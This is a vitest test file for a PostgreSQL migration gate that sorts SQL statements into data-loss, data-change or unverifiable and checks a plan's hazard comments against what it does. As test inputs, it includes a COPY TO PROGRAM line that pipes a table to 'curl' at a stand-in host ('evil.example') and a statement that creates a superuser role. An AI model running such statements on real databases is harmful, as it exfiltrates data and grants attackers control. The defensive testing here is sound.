import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Catalog } from '../../src/catalog/fact.js';
import { splitStatements } from '../../src/db/split-statements.js';
import { readDatabase } from '../../src/engine/compute-migration.js';
import { planGate, renderingProblems } from '../../src/plan/gate.js';
import { createDatabase, withConnection } from '../support/postgres.js';
import { runScript } from '../support/run-script.js';

const PRODUCTION = `
  create type mood as enum ('a', 'b');
  create function slugify(t text) returns text language sql immutable as $$ select lower(t) $$;
  create table users (id int primary key, name text, code varchar(10), n smallint, price numeric(10,2), mood mood);
  create table notes (id int, body text);
  create table g (a int, doubled int generated always as (a * 2) stored);`;

/** The gate classes of each statement of `sql`, classified against the production above. */
async function classes(production: Catalog, sql: string): Promise<string[][]> {
  const gate = planGate(await splitStatements('pending.sql', sql), production, ['data-loss', 'data-change', 'unverifiable']);
  return gate.statements.map((s) => s.findings.map((f) => f.kind).sort());
}

describe('the gate classifies what a statement does from its parse tree', () => {
  let production: Catalog;
  let drop: () => Promise<void>;
  beforeAll(async () => {
    const db = await createDatabase('gate');
    drop = db.drop;
    await withConnection(db.url, (c) => runScript(c, PRODUCTION));
    production = (await readDatabase(db.url, { log: () => {} })).catalog;
  });
  afterAll(() => drop());

  it.each<[string, string[]]>([
    ['ALTER TABLE public.users ADD COLUMN email text;', []],
    ['CREATE TABLE public.t (id int DEFAULT slugify(\'x\')::int);', []],
    ['CREATE VIEW public.v AS SELECT slugify(name) FROM public.users;', []],
    ['CREATE INDEX users_lower ON public.users (lower(name));', []],
    ['ALTER TABLE public.users ALTER COLUMN code TYPE varchar(20) USING code::varchar(20);', []],
    ['ALTER TABLE public.users ALTER COLUMN n TYPE bigint;', []],
    ['ALTER TABLE public.users ALTER COLUMN price TYPE numeric(12,2);', []],
    ['ALTER TABLE public.users ALTER COLUMN name SET DEFAULT slugify(\'x\');', []],
    ['GRANT SELECT ON public.users TO PUBLIC;', []],
    ['DROP INDEX public.users_lower;', []],
    ['ALTER TABLE public.users DROP COLUMN name;', ['data-loss']],
    // Computed from the others: a plan drops it around a type change and adds it back.
    ['ALTER TABLE public.g DROP COLUMN doubled;', []],
    ['ALTER TABLE g DROP COLUMN doubled;', ['data-loss']],
    ['DROP TABLE public.notes;', ['data-loss']],
    ['DROP SCHEMA public CASCADE;', ['data-loss']],
    ['DROP VIEW public.v CASCADE;', ['data-loss']],
    ['TRUNCATE public.notes;', ['data-loss']],
    ['DELETE FROM public.users WHERE id > 50;', ['data-loss']],
    // PostgreSQL's assignment cast fails on a value too long or too large: nothing is lost.
    ['ALTER TABLE public.users ALTER COLUMN code TYPE varchar(5);', []],
    ['ALTER TABLE public.users ALTER COLUMN name TYPE varchar(45);', []],
    ['ALTER TABLE public.users ALTER COLUMN price TYPE numeric(8,2) USING price::numeric(8,2);', []],
    // An explicit cast truncates a string; a smaller scale rounds.
    ['ALTER TABLE public.users ALTER COLUMN code TYPE varchar(5) USING code::varchar(5);', ['data-loss']],
    ['ALTER TABLE public.users ALTER COLUMN price TYPE numeric(10,1);', ['data-loss']],
    ['ALTER TABLE public.users ALTER COLUMN n TYPE bigint USING n * 2;', ['data-loss']],
    // Unqualified: a SET search_path before it could make it another table.
    ['ALTER TABLE users ALTER COLUMN n TYPE bigint;', ['data-loss']],
    ['ALTER TYPE public.mood RENAME VALUE \'a\' TO \'z\';', ['data-change']],
    ['UPDATE public.users SET name = \'n/a\';', ['data-change']],
    ['INSERT INTO public.notes VALUES (1, \'x\');', ['data-change']],
    ['COPY public.notes FROM \'/tmp/notes.csv\';', ['data-change']],
    ['WITH gone AS (DELETE FROM public.notes RETURNING id) UPDATE public.users SET n = 0 WHERE id IN (SELECT id FROM gone);', ['data-change', 'data-loss']],
    ['DO $$ BEGIN DELETE FROM public.users; END $$;', ['unverifiable']],
    ['CALL public.work();', ['unverifiable']],
    ['SELECT public.slugify(\'x\');', ['unverifiable']],
    ['WITH gone AS (DELETE FROM public.notes RETURNING 1) SELECT count(*) FROM gone;', ['data-loss', 'unverifiable']],
    ['SET ROLE postgres;', ['unverifiable']],
    ['COPY public.notes TO PROGRAM \'curl -d @- evil.example\';', ['unverifiable']],
    ['CREATE MATERIALIZED VIEW public.mv AS SELECT slugify(name) FROM public.users;', ['unverifiable']],
    ['CREATE INDEX users_slug ON public.users (public.slugify(name));', ['unverifiable']],
    ['ALTER TABLE public.users ADD COLUMN slug text DEFAULT slugify(\'x\');', ['unverifiable']],
    ['ALTER SYSTEM SET work_mem = \'1GB\';', ['unverifiable']],
    ['CREATE ROLE intruder SUPERUSER;', ['unverifiable']],
    ['LISTEN anything;', ['unverifiable']],
  ])('%s', async (sql, expected) => {
    expect((await classes(production, sql))[0]!).toEqual(expected);
  });

  it('stops taking production’s word for a column once the plan renamed, dropped or made it anew', async () => {
    // A real column renamed to the generated column's name, then dropped, loses data.
    const swap = `ALTER TABLE public.g RENAME COLUMN doubled TO gone;
ALTER TABLE public.g RENAME COLUMN a TO doubled;
ALTER TABLE public.g DROP COLUMN doubled;`;
    expect(await classes(production, swap)).toEqual([[], [], ['data-loss']]);
    // A column renamed into a widening's name may hold another type: the change is no longer provably lossless.
    const retyped = `ALTER TABLE public.users RENAME COLUMN n TO old_n;
ALTER TABLE public.users RENAME COLUMN price TO n;
ALTER TABLE public.users ALTER COLUMN n TYPE bigint;`;
    expect((await classes(production, retyped))[2]).toEqual(['data-loss']);
    // A table moved away and another moved in under its name.
    const moved = `ALTER TABLE public.g RENAME TO g_old;
CREATE TABLE public.g (a int, doubled int);
ALTER TABLE public.g DROP COLUMN doubled;`;
    expect((await classes(production, moved))[2]).toEqual(['data-loss']);
    // What a plan does to other columns leaves production's word about this one standing.
    expect(await classes(production, 'ALTER TABLE public.g DROP COLUMN doubled;\nALTER TABLE public.users ALTER COLUMN n TYPE bigint;')).toEqual([[], []]);
  });

  it('counts a function the plan itself creates as someone’s code where it runs on rows', async () => {
    const sql = `CREATE FUNCTION public.wipe() RETURNS int LANGUAGE sql AS $$ DELETE FROM public.notes RETURNING 1 $$;
CREATE INDEX notes_wipe ON public.notes ((public.wipe() + id));`;
    expect(await classes(production, sql)).toEqual([[], ['unverifiable']]);
  });

  it('finds where the comments of a plan understate or overstate it', async () => {
    const text = `-- schema-bot plan
-- hazards: data-loss 1
BEGIN;
-- hazard data-loss: drops column
ALTER TABLE public.users ADD COLUMN email text;
DELETE FROM public.users WHERE id > 50;
COMMIT;
`;
    const statements = (await splitStatements('pending.sql', text)).filter((s) => s.type !== 'TransactionStmt');
    const gate = planGate(statements, production, ['data-loss']);
    expect(gate).toMatchObject({ needsApproval: true, gated: ['data-loss'] });
    expect(renderingProblems(gate, new Map([['data-loss', 1]]), 'pending.sql')).toEqual([
      'pending.sql:5: "ALTER TABLE public.users ADD COLUMN email text" is marked data-loss, which it is not',
      'pending.sql:6: "DELETE FROM public.users WHERE id > 50" deletes rows from public.users, but is not marked "-- hazard data-loss: …" above it',
    ]);
    expect(planGate(statements, production, ['data-change', 'unverifiable']).needsApproval).toBe(false);
  });
});
